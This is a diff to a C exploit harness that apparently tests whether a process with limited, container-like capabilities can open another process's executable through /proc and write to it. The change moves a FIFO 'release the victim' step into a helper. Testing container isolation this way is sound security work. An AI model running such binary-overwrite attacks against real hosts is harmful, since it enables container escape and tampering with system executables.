@@ -9,8 +9,9 @@
  *
  * --caps first drops every capability but these (numbers, "" for none):
  * the attacker then has what a container process with those caps has.
- * --release opens FIFO for reading once the exe is held: a victim blocked
- * opening it for writing (its log file) then goes on and exits.
+ * --release opens FIFO for reading once the exe is held, or the attack is
+ * over without it: a victim blocked opening it for writing (its log file)
+ * then goes on and exits.
  *
  * "scan" waits for any process whose exe is not ours and attacks that one;
  * "parent" attacks our parent.  --out prints to FILE instead of stdout.
@@ -82,6 +83,15 @@ static int scan_once(const struct stat *self, int *denied, int *denied_err)
 	return found;
 }
 
+/* A victim blocked opening FIFO for writing goes on (NULL: none). */
+static void release_victim(const char *fifo)
+{
+	int r = fifo ? open(fifo, O_RDONLY | O_CLOEXEC) : -1;
+
+	if (r >= 0)
+		close(r);
+}
+
 /* Keep only the capabilities listed ("19,21") in every set. */
 static int keep_caps(const char *list)
 {
@@ -143,6 +153,7 @@ int main(int argc, char **argv)
 			if (pid > 0)
 				break;
 			if (now() > limit) {
+				release_victim(release);
 				if (denied) {
 					printf("target %d\nopen %s\n", denied, ename(denied_err));
 					return 1;
@@ -162,14 +173,11 @@ int main(int argc, char **argv)
 	fd = open(path, O_PATH | O_CLOEXEC);
 	if (fd < 0) {
 		printf("open %s\n", ename(errno));
+		release_victim(release);
 		return 1;
 	}
 	printf("open ok\n");
-	if (release) {
-		int r = open(release, O_RDONLY | O_CLOEXEC);
-		if (r >= 0)
-			close(r);
-	}
+	release_victim(release);
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
 	do {
 		int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
